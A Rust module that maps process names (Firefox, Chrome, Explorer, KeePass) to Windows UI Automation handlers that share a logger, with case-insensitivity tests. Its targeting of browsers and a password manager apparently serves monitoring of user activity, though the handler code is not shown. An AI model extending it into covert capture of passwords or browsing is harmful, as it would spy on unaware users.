mod chrome;
mod explorer;
mod firefox;
mod keepass;
pub(crate) mod common;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use windows::core::VARIANT;
use windows::Win32::UI::Accessibility::{IUIAutomationElement, UIA_EVENT_ID, UIA_PROPERTY_ID};

use crate::error::Result;
use crate::logger::Logger;
use super::TreeWalker;

pub type HandlerFn = Box<
    dyn Fn(&TreeWalker, &IUIAutomationElement, &str, &str, UIA_EVENT_ID) -> Result<()>
        + Send
        + Sync,
>;
pub type PropertyHandlerFn = Box<
    dyn Fn(&TreeWalker, &IUIAutomationElement, &str, &str, UIA_PROPERTY_ID, &VARIANT) -> Result<()>
        + Send
        + Sync,
>;

/// Maps owning-process image names to specialized handlers. Lookup
/// misses fall back to the generic handlers in `common`.
pub struct HandlerRegistry {
    event_handlers: HashMap<String, HandlerFn>,
    property_handlers: HashMap<String, PropertyHandlerFn>,
}

impl HandlerRegistry {
    pub fn new(logger: Arc<Mutex<Logger>>) -> Self {
        let mut registry = Self {
            event_handlers: HashMap::new(),
            property_handlers: HashMap::new(),
        };

        registry.register_event_handler("firefox.exe", firefox::create_firefox_handler(logger.clone()));
        registry.register_event_handler("explorer.exe", explorer::create_explorer_handler(logger.clone()));

        registry.register_property_handler("chrome.exe", chrome::create_chrome_handler(logger.clone()));
        registry.register_property_handler("keepass.exe", keepass::create_keepass_handler(logger));

        registry
    }

    pub fn register_event_handler<S: Into<String>>(&mut self, process: S, handler: HandlerFn) {
        self.event_handlers.insert(process.into().to_lowercase(), handler);
    }

    pub fn register_property_handler<S: Into<String>>(
        &mut self,
        process: S,
        handler: PropertyHandlerFn,
    ) {
        self.property_handlers.insert(process.into().to_lowercase(), handler);
    }

    pub fn event_handler(&self, process: &str) -> Option<&HandlerFn> {
        self.event_handlers.get(&process.to_lowercase())
    }

    pub fn property_handler(&self, process: &str) -> Option<&PropertyHandlerFn> {
        self.property_handlers.get(&process.to_lowercase())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_is_case_insensitive() {
        let registry = HandlerRegistry::new(Arc::new(Mutex::new(Logger::new())));
        assert!(registry.event_handler("FIREFOX.EXE").is_some());
        assert!(registry.event_handler("Explorer.exe").is_some());
        assert!(registry.property_handler("Chrome.EXE").is_some());
        assert!(registry.property_handler("keepass.exe").is_some());
    }

    #[test]
    fn unknown_processes_have_no_specialized_handler() {
        let registry = HandlerRegistry::new(Arc::new(Mutex::new(Logger::new())));
        assert!(registry.event_handler("notepad.exe").is_none());
        assert!(registry.property_handler("notepad.exe").is_none());
    }
}
